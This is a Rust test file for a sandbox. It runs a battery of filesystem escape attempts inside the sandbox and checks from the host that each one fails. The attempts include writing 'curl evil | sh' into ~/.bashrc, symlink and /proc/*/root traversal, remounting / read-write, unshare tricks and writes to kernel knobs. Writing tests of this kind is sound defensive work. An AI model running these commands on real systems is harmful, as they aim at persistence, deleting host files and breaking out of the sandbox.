//! Filesystem escape attempts, each checked from the host.
//!
//! Cases (each as root and as user): write_etc, write_home, dotdot_escape,
//! symlink_dir_to_outside, symlink_file_to_outside, hardlink_outside_then_write,
//! rename_outside_into_ws, delete_outside, chmod_and_touch_outside, proc_self_root,
//! proc_1_root, inherited_write_fd, inherited_dir_fd, mount_tmpfs_over_etc,
//! bind_mount_outside, remount_root_rw, nested_userns_unshare, proc_sys_and_sysrq,
//! sysfs_write, setuid_binary, dev_minimal.

#[macro_use]
mod common;

use common::{Harness, is_root, read};
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, lchown, symlink};
use std::path::Path;
use std::process::Command;
use std::sync::Mutex;

const ORIGINAL: &str = "original\n";

/// Serializes the cases that touch host-global knobs (sysctl, sysfs).
static GLOBAL_KNOBS: Mutex<()> = Mutex::new(());

/// Creates outside/file with known contents, owned by the test uid.
fn outside_file(h: &Harness) -> std::path::PathBuf {
    let f = h.outside.join("file");
    h.write(&f, ORIGINAL);
    f
}

#[track_caller]
fn assert_unchanged(path: &Path, why: &dyn std::fmt::Display) {
    assert!(
        path.exists(),
        "{} disappeared from the host{why}",
        path.display()
    );
    assert_eq!(
        read(path),
        ORIGINAL,
        "{} was modified on the host{why}",
        path.display()
    );
}

#[track_caller]
fn assert_absent(path: &Path, why: &dyn std::fmt::Display) {
    assert!(
        !path.exists(),
        "{} was created on the host{why}",
        path.display()
    );
}

/// Removes a host file the attack may have created, then asserts it had not been.
#[track_caller]
fn assert_absent_cleanup(path: &Path, why: &dyn std::fmt::Display) {
    let leaked = path.exists();
    let _ = fs::remove_file(path);
    assert!(!leaked, "{} was created on the host{why}", path.display());
}

sandbox_test!(write_etc, |h: &Harness| {
    let target = Path::new("/etc").join(h.unique("etc"));
    let out = h
        .sh(&format!("echo pwned > {} && echo WROTE", target.display()))
        .output();
    assert_absent_cleanup(&target, &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(write_home, |h: &Harness| {
    let out = h
        .sh(
            "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo WROTE1; \
             mkdir -p \"$HOME/.ssh\" && echo WROTE2",
        )
        .output();
    assert_absent(&h.home.join(".bashrc"), &out);
    assert_absent(&h.home.join(".ssh"), &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(dotdot_escape, |h: &Harness| {
    let out = h.sh("echo x > ../outside/pwned && echo WROTE").output();
    assert_absent(&h.outside.join("pwned"), &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(symlink_dir_to_outside, |h: &Harness| {
    let link = h.ws.join("link");
    symlink(&h.outside, &link).unwrap();
    lchown(&link, Some(h.uid), Some(h.gid)).unwrap();
    let out = h
        .sh(&format!(
            "echo x > link/pwned && echo WROTE1; ln -s {} link2 && echo x > link2/pwned2 && echo WROTE2",
            h.outside.display()
        ))
        .output();
    assert_absent(&h.outside.join("pwned"), &out);
    assert_absent(&h.outside.join("pwned2"), &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(symlink_file_to_outside, |h: &Harness| {
    let f = outside_file(h);
    let link = h.ws.join("f");
    symlink(&f, &link).unwrap();
    lchown(&link, Some(h.uid), Some(h.gid)).unwrap();
    let out = h
        .sh("echo x >> f && echo WROTE1; echo y > f && echo WROTE2")
        .output();
    assert_unchanged(&f, &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(hardlink_outside_then_write, |h: &Harness| {
    let f = outside_file(h);
    let out = h
        .sh(&format!(
            "ln {} hl && echo LINKED; echo x >> hl",
            f.display()
        ))
        .output();
    assert_unchanged(&f, &out);
    assert_eq!(
        fs::metadata(&f).unwrap().nlink(),
        1,
        "a hard link to outside/file was made{out}"
    );
    out.stdout_lacks("LINKED");
});

sandbox_test!(rename_outside_into_ws, |h: &Harness| {
    let f = outside_file(h);
    let out = h
        .sh(&format!("mv {} ./stolen && echo MOVED", f.display()))
        .output();
    assert_unchanged(&f, &out);
    out.stdout_lacks("MOVED");
});

sandbox_test!(delete_outside, |h: &Harness| {
    let f = outside_file(h);
    let d = h.outside.join("dir");
    h.mkdir(&d);
    let out = h
        .sh(&format!(
            "rm -f {} && echo DELETED1; rm -rf {} && echo DELETED2",
            f.display(),
            d.display()
        ))
        .output();
    assert_unchanged(&f, &out);
    assert!(d.is_dir(), "outside/dir was removed{out}");
    out.stdout_lacks("DELETED");
});

sandbox_test!(chmod_and_touch_outside, |h: &Harness| {
    let f = outside_file(h);
    let before = fs::metadata(&f).unwrap();
    let out = h
        .sh(&format!(
            "chmod 0777 {f} && echo CHMOD; touch -d '2001-01-01 00:00' {f} && echo TOUCHED",
            f = f.display()
        ))
        .output();
    let after = fs::metadata(&f).unwrap();
    assert_eq!(
        after.permissions().mode() & 0o7777,
        0o644,
        "mode of outside/file changed{out}"
    );
    assert_eq!(
        after.mtime(),
        before.mtime(),
        "mtime of outside/file changed{out}"
    );
    assert_unchanged(&f, &out);
    out.stdout_lacks("CHMOD").stdout_lacks("TOUCHED");
});

sandbox_test!(proc_self_root, |h: &Harness| {
    let out = h
        .sh(&format!(
            "echo x > /proc/self/root{}/pwned && echo WROTE",
            h.outside.display()
        ))
        .output();
    assert_absent(&h.outside.join("pwned"), &out);
    out.stdout_lacks("WROTE");
});

// pid 1 is moat's init inside; $PPID is the command's parent.
sandbox_test!(proc_1_root, |h: &Harness| {
    let out = h
        .sh(&format!(
            "echo x > /proc/1/root{o}/pwned && echo WROTE1; \
             echo x > /proc/$PPID/root{o}/pwned2 && echo WROTE2; \
             echo x > /proc/self/cwd/../outside/pwned3 && echo WROTE3",
            o = h.outside.display()
        ))
        .output();
    assert_absent(&h.outside.join("pwned"), &out);
    assert_absent(&h.outside.join("pwned2"), &out);
    assert_absent(&h.outside.join("pwned3"), &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(inherited_write_fd, |h: &Harness| {
    let f = outside_file(h);
    let out = h
        .sh("echo x >&9 && echo WROTE")
        .pre_shell(&format!("exec 9>>'{}'", f.display()))
        .output();
    assert_unchanged(&f, &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(inherited_dir_fd, |h: &Harness| {
    let out = h
        .sh("echo x > /proc/self/fd/8/new && echo WROTE")
        .pre_shell(&format!("exec 8<'{}'", h.outside.display()))
        .output();
    assert_absent(&h.outside.join("new"), &out);
    out.stdout_lacks("WROTE");
});

sandbox_test!(mount_tmpfs_over_etc, |h: &Harness| {
    let out = h
        .sh("mount -t tmpfs none /etc && echo MOUNTED1; mkdir -p m && mount -t tmpfs none m && echo MOUNTED2")
        .output();
    out.stdout_lacks("MOUNTED");
    h.probe(&["mount_tmpfs", "/etc"])
        .output()
        .code(0)
        .stdout_has("mount_tmpfs: E");
});

sandbox_test!(bind_mount_outside, |h: &Harness| {
    let out = h
        .sh(&format!(
            "mkdir -p b && mount --bind {o} b && echo MOUNTED; touch b/pwned; \
             mount -o remount,rw,bind {o} && echo REMOUNTED; touch {o}/pwned2",
            o = h.outside.display()
        ))
        .output();
    assert_absent(&h.outside.join("pwned"), &out);
    assert_absent(&h.outside.join("pwned2"), &out);
    out.stdout_lacks("MOUNTED");
});

sandbox_test!(remount_root_rw, |h: &Harness| {
    let etc = Path::new("/etc").join(h.unique("remount"));
    let out = h
        .sh(&format!(
            "mount -o remount,rw / && echo REMOUNTED1; mount -o remount,rw,bind / && echo REMOUNTED2; \
             echo x > {e}; echo x > {o}/pwned",
            e = etc.display(),
            o = h.outside.display()
        ))
        .output();
    assert_absent_cleanup(&etc, &out);
    assert_absent(&h.outside.join("pwned"), &out);
    out.stdout_lacks("REMOUNTED");
});

sandbox_test!(nested_userns_unshare, |h: &Harness| {
    let out = h
        .sh(&format!(
            "unshare -Urm sh -c 'echo INNER; mount -o remount,rw,bind {o}; echo x > {o}/pwned'",
            o = h.outside.display()
        ))
        .output();
    assert_absent(&h.outside.join("pwned"), &out);
    out.stdout_lacks("INNER");
    assert_ne!(
        out.code,
        Some(0),
        "unshare -Ur succeeded inside the sandbox{out}"
    );
});

/// Reads a host knob, runs `script` inside with `{path}` and `{value}` substituted, and
/// checks (then restores) the host value.
fn knob_unchanged(h: &Harness, path: &str, new_value: &str, script: &str) {
    let _guard = GLOBAL_KNOBS.lock().unwrap_or_else(|e| e.into_inner());
    let before = read(Path::new(path));
    let out = h
        .sh(&script.replace("{path}", path).replace("{value}", new_value))
        .output();
    let after = read(Path::new(path));
    if after != before && is_root() {
        let _ = fs::write(path, before.trim());
    }
    assert_eq!(
        after, before,
        "host {path} changed from inside the sandbox{out}"
    );
    out.stdout_lacks("WROTE");
}

sandbox_test!(proc_sys_and_sysrq, |h: &Harness| {
    // /proc/sysrq-trigger does not exist on every kernel; the write must fail either way.
    let out = h.sh("echo h > /proc/sysrq-trigger && echo WROTE").output();
    out.stdout_lacks("WROTE");
    let path = "/proc/sys/kernel/printk_ratelimit_burst";
    let cur: u64 = read(Path::new(path)).trim().parse().unwrap();
    knob_unchanged(
        h,
        path,
        &(cur + 1).to_string(),
        "echo {value} > {path} && echo WROTE",
    );
});

sandbox_test!(sysfs_write, |h: &Harness| {
    let path = "/sys/kernel/mm/transparent_hugepage/khugepaged/scan_sleep_millisecs";
    if !Path::new(path).exists() {
        println!("skipped: {path} does not exist on this kernel");
        return;
    }
    let cur: u64 = read(Path::new(path)).trim().parse().unwrap();
    knob_unchanged(
        h,
        path,
        &(cur + 1).to_string(),
        "echo {value} > {path} && echo WROTE",
    );
});

sandbox_test!(setuid_binary, |h: &Harness| {
    if !is_root() {
        println!("skipped: creating a setuid-root binary needs root");
        return;
    }
    let suid = h.setuid_probe();
    // Prove the setuid bit works on the host, so the sandbox check below is meaningful.
    let host = Command::new("/usr/bin/setpriv")
        .args(["--reuid=4242", "--regid=4242", "--clear-groups", "--"])
        .arg(&suid)
        .arg("setuid_check")
        .output()
        .unwrap();
    let host_out = String::from_utf8_lossy(&host.stdout);
    assert!(
        host_out.contains("euid=0 "),
        "setuid does not work on the host: {host_out}"
    );
    let out = h.run(&[suid.as_os_str(), "setuid_check".as_ref()]).output();
    out.code(0).stdout_has("caps_eff=0000000000000000");
    if h.is_user() {
        out.stdout_lacks("euid=0 ");
    }
});

sandbox_test!(dev_minimal, |h: &Harness| {
    // No host block devices, kmsg, mem, consoles: only the spec's minimal /dev.
    let allowed = [
        "null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "shm", "fd", "stdin",
        "stdout", "stderr",
    ];
    let out = h.run(&["ls", "-A", "/dev"]).output();
    out.ok();
    let extra: Vec<&str> = out
        .stdout
        .lines()
        .filter(|e| !allowed.contains(e))
        .collect();
    assert!(extra.is_empty(), "unexpected /dev entries {extra:?}{out}");
    out.stdout_has("null\n");
});
